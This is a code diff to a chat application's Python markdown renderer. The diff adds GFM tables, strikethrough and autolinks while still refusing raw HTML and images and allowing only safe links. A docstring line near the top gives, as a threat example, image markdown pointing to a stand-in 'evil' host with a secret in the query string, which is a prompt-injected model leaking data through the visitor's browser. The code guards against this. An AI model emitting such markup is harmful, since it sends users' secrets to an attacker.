@@ -6,6 +6,13 @@ destination (`javascript:`, `data:`, relative paths) is left as inert text. Imag
 rendered: a model talked into emitting `![](https://evil/?q=<secret>)` would otherwise make
 the visitor's browser fetch that URL on display, so an image comes out as `!` and a plain
 link the visitor may choose to follow.
+
+The dialect is CommonMark with GFM tables, strikethrough and autolinks (bare URLs and email
+addresses, by linkify-it). The chat page renders answers while they stream with the
+JavaScript markdown-it (`static/js/markdown.js`), of which markdown-it-py is a port, set up
+the same way: both turn the same text into the same HTML (tests/test_markdown_parity.py).
+A table column's alignment comes out as a class (`align-right`), not as the `style`
+attribute markdown-it writes, which the pages' Content-Security-Policy refuses.
 """
 
 from __future__ import annotations
@@ -19,6 +26,7 @@ from markdown_it.token import Token
 
 SAFE_LINK = re.compile(r"(?:https?|mailto):", re.IGNORECASE)
 LINK_REL = "nofollow noopener noreferrer"
+GFM_RULES = ["table", "strikethrough", "linkify"]
 
 
 def is_safe_link(url: str) -> bool:
@@ -32,13 +40,26 @@ def _link_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: 
     return html
 
 
+def _cell_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
+    token = tokens[idx]
+    style = token.attrs.pop("style", None)
+    if isinstance(style, str):
+        token.attrSet("class", "align-" + style.removeprefix("text-align:"))
+    html: str = self.renderToken(tokens, idx, options, env)
+    return html
+
+
 class SafeMarkdown(MarkdownIt):
-    """CommonMark without raw HTML or images, keeping only safe links."""
+    """CommonMark and GFM's tables, strikethrough and autolinks, without raw HTML or images,
+    keeping only safe links."""
 
     def __init__(self) -> None:
-        super().__init__("commonmark", {"html": False})
+        super().__init__("commonmark", {"html": False, "linkify": True})
+        self.enable(GFM_RULES)
         self.disable("image")
         self.add_render_rule("link_open", _link_open)
+        self.add_render_rule("th_open", _cell_open)
+        self.add_render_rule("td_open", _cell_open)
 
     def validateLink(self, url: str) -> bool:  # markdown-it calls it by this name
         return is_safe_link(url)
